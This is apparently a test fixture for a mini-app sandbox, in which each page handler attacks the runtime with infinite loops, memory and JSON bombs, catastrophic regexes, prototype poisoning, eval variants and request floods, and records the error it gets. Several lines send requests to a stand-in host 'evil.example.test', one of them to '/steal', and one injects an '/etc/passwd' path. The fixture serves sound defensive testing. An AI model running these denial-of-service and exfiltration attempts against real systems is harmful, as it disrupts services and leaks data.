// A mini-app that attacks its sandbox, one handler per attack. Each handler records
// what the app saw in `result`, so tests can assert the error a mini-app gets.
function errText(e) {
  return e && (e.errMsg || e.message) || String(e)
}

Page({
  data: { result: '', lastError: '' },

  report(value) {
    this.setData({ result: value })
  },

  loop() {
    while (true) {}
  },

  // Natives that used to crash or pin the shell: each must end in a catchable error.
  jsonBomb() {
    setTimeout(() => {
      const out = []
      for (const f of [
        () => JSON.parse('['.repeat(5e6)),
        () => { let o = {}; for (let i = 0; i < 1e5; i++) o = { a: o }; return JSON.stringify(o) },
        () => { let d = []; for (let i = 0; i < 3e5; i++) d = [d]; return String(d) },
        () => 'a'.repeat(2 ** 40),
        () => Array.prototype.indexOf.call({ length: 2 ** 53 - 1 }, 1),
      ]) {
        try { f(); out.push('returned?!') } catch (e) { out.push(e.name) }
      }
      this.report(out.join(','))
    }, 0)
  },

  // A native call that no guard bounds (a global replace with a lookahead walks the
  // string match by match inside regexp2, about a second per million characters): the
  // task overruns its budget inside it.
  pinNative(e) {
    const n = (e && e.detail && e.detail.n) || 4e6
    this.report(String('a'.repeat(n).replace(/(?=a)a/g, 'b').length))
  },

  regexpPin() {
    this.report(String(/^(a+)+(?=b)/.test('a'.repeat(40) + '!')))
  },

  intervalLoop() {
    setInterval(() => { for (;;) {} }, 10)
  },

  stringBomb() {
    let s = 'x'
    for (;;) s = s + s
  },

  arrayBomb() {
    const a = []
    for (let i = 0; ; i++) a.push({ i, pad: 'xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx' + i })
  },

  undeclared() {
    wx.getLocation({ type: 'wgs84' }).then(
      () => this.report('granted?!'),
      e => this.report(errText(e)))
  },

  flood() {
    let ok = 0, limited = 0, other = 0, done = 0
    const n = 10000
    for (let i = 0; i < n; i++) {
      wx.showToast({ title: 'look at me ' + i }).then(() => { ok++ }, e => {
        if (/rate limit/.test(errText(e))) limited++; else other++
      }).then(() => {
        if (++done === n) this.report(JSON.stringify({ ok, limited, other }))
      })
    }
  },

  requestFlood() {
    // Refused by the domain list when it gets through the rate limit at all.
    for (let i = 0; i < 10000; i++) wx.request({ url: 'https://evil.example.test/' + i }).catch(() => {})
  },

  deniedBurst() {
    // Ask again and again for what was never declared.
    for (let i = 0; i < 100; i++) wx.getLocation({ type: 'wgs84' }).catch(() => {})
  },

  tamper() {
    const seen = []
    const original = wx.showToast
    // Poison the prototypes the framework could lean on, then try to swap wx's methods.
    Object.prototype.success = function () { seen.push('poisoned success ran') }
    Object.prototype.fail = function () { seen.push('poisoned fail ran') }
    JSON.stringify = function () { return '{"name":"navigateTo","args":{"url":"/etc/passwd"}}' }
    wx.showToast = function () { seen.push('replaced') }
    try { Object.defineProperty(wx, 'showToast', { value: 1 }) } catch (e) { seen.push('define: ' + e.constructor.name) }
    sf.extra = 1
    seen.push(wx.showToast === original ? 'wx intact' : 'wx replaced')
    seen.push(sf.extra === undefined ? 'no extra' : 'extra added')
    wx.setClipboardData({ data: 'still works', complete: (r) => {
      delete Object.prototype.success
      delete Object.prototype.fail
      this.report(seen.join(',') + ' | ' + r.errMsg)
    } })
  },

  requireFs() {
    try { require('fs'); this.report('fs loaded?!') } catch (e) { this.report(errText(e)) }
  },

  evals() {
    const attempts = {
      eval: () => eval('1'),
      indirectEval: () => (0, eval)('1'),
      Function: () => new Function('return 1')(),
      ctor: () => (function () {}).constructor('return 1')(),
      asyncCtor: () => (async function () {}).constructor('return 1'),
      genCtor: () => (function* () {}).constructor('return 1'),
      stringTimer: () => setTimeout('1', 0)
    }
    const out = {}
    for (const k of Object.keys(attempts)) {
      try { attempts[k](); out[k] = 'ran' } catch (e) { out[k] = /not allowed/.test(errText(e)) ? 'blocked' : errText(e) }
    }
    this.report(JSON.stringify(out))
  },

  requestUndeclared() {
    wx.request({ url: 'https://evil.example.test/steal' }).then(
      () => this.report('sent?!'),
      e => this.report(errText(e)))
  },

  requestLoopback(e) {
    const url = e.detail && e.detail.url
    wx.request({ url }).then(
      () => this.report('sent?!'),
      err => this.report(errText(err)))
  },

  askTwice() {
    const out = []
    sf.requestCapability('clipboard:write').then(
      r => out.push('first: ' + r.errMsg),
      e => out.push('first: ' + errText(e))
    ).then(() => sf.requestCapability('clipboard:write')).then(
      r => out.push('second: ' + r.errMsg),
      e => out.push('second: ' + errText(e))
    ).then(() => this.report(out.join(' | ')))
  },

  bigSetData() {
    try {
      this.setData({ big: 'x'.repeat(2 << 20) })
      this.report('accepted?!')
    } catch (e) {
      this.report(errText(e))
    }
  },

  clear() {
    this.setData({ result: '' })
  },

  copy() {
    wx.setClipboardData({ data: 'hello' }).then(r => this.report(r.errMsg), e => this.report(errText(e)))
  }
})
